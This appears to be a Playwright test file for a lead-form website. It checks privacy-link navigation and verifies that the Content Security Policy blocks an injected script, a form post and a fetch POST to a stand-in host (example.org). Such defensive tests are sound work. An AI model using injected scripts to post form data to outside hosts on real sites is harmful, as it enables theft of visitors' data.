import { content } from './fixture-content';
import { expect, open, STILL, test } from './fixtures';
import { field } from './lead-form';

const { privacy } = content;

test.use({ contextOptions: STILL });

// That it opens each time is tested in every engine (engines).
test('a link leads to the texts from another page, and back to the words', async ({ page }) => {
  await open(page, '/seo-donetsk/');
  await field(page, 'name').fill('Читатель');
  await page.locator('#contact form').getByRole('link', { name: privacy.link }).click();
  await expect(page).toHaveURL(/\/#privacy$/);
  await expect(page.locator('#privacy h2')).toBeInViewport();
  // Nobody gives a consent where the form asks for none.
  await expect(page.locator('#privacy h3')).toHaveText(privacy.policy.title);
  await page.goBack();
  await expect(field(page, 'name')).toHaveValue('Читатель');
});

// Every other browser test runs under the same policy, and fails on any violation in the console.
test.describe('a script that somebody else has put in', () => {
  test.use({ expectedMessages: /Content Security Policy/ });

  test('does not run, send anything elsewhere or hand the form over', async ({ page }) => {
    await open(page, '/');
    await page.evaluate(() => {
      const refused: string[] = [];
      Object.assign(window, { refused });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.push(effectiveDirective),
      );
      const script = document.createElement('script');
      script.textContent = 'window.hacked = true';
      const form = document.createElement('form');
      form.action = 'https://example.org/';
      document.body.append(script, form);
      form.submit();
      fetch('https://example.org/', { method: 'POST', body: '1' }).catch(() => {});
    });
    await expect
      .poll(() => page.evaluate(() => Object(window).refused.sort()))
      .toEqual(['connect-src', 'form-action', 'script-src-elem']);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });
});
